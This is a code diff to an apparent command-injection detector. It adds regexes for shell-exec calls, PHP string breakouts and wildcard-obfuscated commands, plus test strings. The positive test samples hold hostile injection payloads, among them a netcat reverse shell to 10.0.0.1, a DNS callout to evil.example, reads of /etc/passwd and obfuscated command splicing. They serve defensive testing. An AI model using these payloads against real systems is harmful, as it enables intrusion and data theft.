@@ -5,7 +5,15 @@ import { sign } from '../signs.ts';
 
 /** Functions of scripting languages that hand text to a shell or run it. */
 const runner =
-  /(?<![.>#])\b(?:system|passthru|popen|exec|spawn)\(\s*(?:["'`$%@&_\\]|[a-z]\w*\s*[([]|base64)|\b(?:shell_exec|proc_open|pcntl_exec|execsync|spawnsync|os\.popen|os\.system|subprocess\.\w+|__import__|execfile|processbuilder|child_process)\((?!\d?\))|\bphpinfo\(|\bgetruntime\b|<\?(?:php|=)|\brequire\s*\(\s*['"]child_process|\bimport\s*\(\s*['"]child_process|\beval\s*\(\s*(?:['"](?:ls|sleep|whoami|id|uname|cat|pwd)\b|\$_|base64_decode|gzinflate|str_rot13|request\b|compile)/i;
+  /(?<![.>#])\b(?:system|passthru|popen|exec|spawn)\(\s*(?:["'`$%@&_\\]|[a-z]\w*\s*[([]|base64)|\b(?:shell_exec|proc_open|pcntl_exec|execsync|spawnsync|(?:os|io)\.popen|os\.system|system\.diagnostics\.process\.start|subprocess\.\w+|__import__|execfile|processbuilder|child_process)\((?!\d?\))|\bphpinfo\(|\bgetruntime\b|\bforname\(['"]java\.lang\.processbuilder|<\?(?:php|=)|\brequire\s*\(\s*['"]child_process|\bimport\s*\(\s*['"]child_process|\beval\s*\(\s*(?:['"](?:ls|sleep|whoami|id|uname|cat|pwd)\b|\$_|base64_decode|gzinflate|str_rot13|request\b|compile)/i;
+
+/** Code that leaves the string it stands in by the sign that joins texts in PHP, or by the end of a statement, and calls something there. */
+const leavesCode =
+  /^[^'"]{0,80}['"]\)?\s*(?:\.\s*(?:system|exec|passthru|shell_exec|phpinfo|print|md5|eval|assert|exit|die)|;\s*(?:system|passthru|shell_exec|phpinfo|assert|exit|die))\s*\(/i;
+
+/** Behind a separator, or at the beginning: a loop of Windows over what another command says, a program by a path of wildcards, words put together from variables. */
+const disguised =
+  /(?:^|[;|&\n`])\s{0,4}(?:for\s{1,4}\/[dflr]\s[^\n]{0,80}%{1,2}[a-z]\s{1,4}in\s{0,4}\(|\/\?{2,}[?*a-z]{0,12}\/[?*a-z]{0,12}\?|(?:\$\{?[a-z]\w{0,15}\}?){2,4}\s+(?:\/[a-z]|-[a-z]))/i;
 
 /** What people tell each other to type: a tool, with neither a path from the root nor code for it to run. */
 const everyday =
@@ -75,7 +83,7 @@ export const commandInjection = defineAttack({
     const isDocument = (signs & sign.backtick) !== 0 && text.includes('```');
     for (const { lead, isCommon, hasArguments, hasPlainArguments, hasFile, isAlone, isListed, isByPath, start, end } of commandsOf(text)) {
       const isStrong = !isCommon || isByPath;
-      if (isDocument && lead === 'line') continue;
+      if (lead === 'line' && (isDocument || (isCommon && isWrapped(text, start, end)))) continue;
       if (lead === 'semicolon' && !hasArguments && !isAlone && wordsOf(text.slice(Math.max(0, start - spanMax), start)) >= wordsOfSentence)
         continue;
       if (lead === 'start') {
@@ -96,7 +104,8 @@ export const commandInjection = defineAttack({
       if (lead === 'pipe' && isListed && !isByPath && !hasPlainArguments) continue;
       if (lead === 'substitution') {
         if (isStrong || hasArguments || hasFile || isAlone) note('substituted', start, end);
-      } else if (isStrong && ((lead !== 'ampersand' && lead !== 'line') || hasArguments || isAlone)) note('chained', start, end);
+      } else if (isStrong && ((lead !== 'ampersand' && lead !== 'line') || hasArguments || isAlone || start < 2))
+        note('chained', start, end);
       else if (hasPlainArguments) note('chained', start, end);
       else if (
         isAlone &&
@@ -130,7 +139,9 @@ export const commandInjection = defineAttack({
     if (shock) note('shellshock', shock.index, text.length);
     const include = (signs & sign.less) === 0 ? null : /<!--#(?:exec|include|echo|config|printenv|set)\b/i.exec(text);
     if (include) note('include', include.index, include.index + include[0].length);
-    const code = (signs & (sign.paren | sign.less)) === 0 ? null : runner.exec(text);
+    const hidden = (signs & (sign.percent | sign.slash | sign.dollar)) === 0 ? null : disguised.exec(text);
+    if (hidden) note('chained', hidden.index, hidden.index + hidden[0].length);
+    const code = (signs & (sign.paren | sign.less)) === 0 ? null : (runner.exec(text) ?? leavesCode.exec(text));
     if (code) note('code', code.index, code.index + code[0].length);
   },
   worst: (length) => ';id '.repeat(Math.ceil(length / 4)).slice(0, length),
@@ -154,6 +165,14 @@ export const commandInjection = defineAttack({
       '| nc -e /bin/sh 10.0.0.1 4444',
       '/bin/sh',
       '(x|id',
+      '& nslookup evil.example',
+      'The list of what was ordered\ncat /etc/passwd',
+      '& for /f "tokens=*" %a in (\'ver\') do @echo %a',
+      ';/???/t?c /???/gr??p',
+      ';x=ta;y=il;$x$y /srv/orders.csv',
+      "';exit(md5('k'));//",
+      "'.shell_exec($c).'",
+      '& start-sleep -s 9',
       '127.0.0.1|TYPE c:\\notes.txt',
       'label"; cat notes.txt; echo "',
       "a' | tail orders.csv #",
@@ -193,6 +212,12 @@ export const commandInjection = defineAttack({
       'curl https://api.example.com/v1/users',
       'sudo systemctl --user restart shop',
       '(id|name|date)',
+      'How it is read can be found in\nfile src/shell.c of the sources.',
+      'R&D & nslookup examples',
+      'for (f of files) use 5 % in (all)',
+      '/**/*.ts; /a?/b?',
+      "'It ends.' (print it)",
+      'Sum; $a $b / 2',
       'by {{PLURAL:$2|du groupe|des groupes}}: $1',
       '{{Related|Date}}',
       '.items[] | select(.status == "open") | {id, name: .metadata.name}',
@@ -224,6 +249,15 @@ function isMarked(text: string, start: number, end: number): boolean {
 function isEveryday(text: string): boolean {
   return everyday.test(text.slice(0, spanMax));
 }
+
+/** Whether a line begins within a sentence, with a word of it: words and no full stop stand before it, and no path of the system behind it. */
+function isWrapped(text: string, start: number, end: number): boolean {
+  const before = text.slice(Math.max(0, start - 1 - spanMax), start - 1);
+  const line = before.slice(before.lastIndexOf('\n') + 1).trim();
+  return /[\p{L}\d,]$/u.test(line) && wordsOf(line) >= wordsOfSentence && !systemPath.test(text.slice(end, end + spanMax));
+}
+
+const systemPath = /^[^\n]{0,40}[\s"']\/(?:etc|proc|bin|usr|dev|tmp|var|root|home)\b/;
 
 /** Whether a command is what a sentence begins with: words of people follow its arguments, up to a full stop. */
 function isSentence(text: string, from: number): boolean {
